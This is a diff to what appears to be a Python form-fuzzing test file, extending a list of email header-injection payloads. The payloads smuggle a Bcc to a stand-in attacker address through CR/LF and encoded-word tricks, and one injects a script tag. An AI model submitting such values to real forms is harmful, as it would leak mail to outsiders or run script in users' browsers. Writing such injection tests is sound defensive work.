@@ -58,7 +58,8 @@ INVISIBLE = [
 HEADERS = [
     "x\r\nBcc: a@evil.example", "x\nBcc: a@evil.example", "x\rBcc: a@evil.example",
     "x%0d%0aBcc: a@evil.example", "x\r\n\r\n<script>alert(1)</script>", "x\u2028Bcc: a@evil.example",
-    "x\x0bBcc: a@evil.example", "=?utf-8?q?x=0d=0aBcc:_a?=", "x\x85Bcc: a@evil.example",
+    "x\x0bBcc: a@evil.example", "=?utf-8?q?x=0d=0aBcc:_a@evil.example?=",
+    "=?utf-8?q?a=40evil.example=3e=2c?=", "x\x85Bcc: a@evil.example",
 ]
 OWN = SCRIPTS + LINKS + TEMPLATES + QUERIES + INVISIBLE + HEADERS
 FEW = [  # for every field of every form
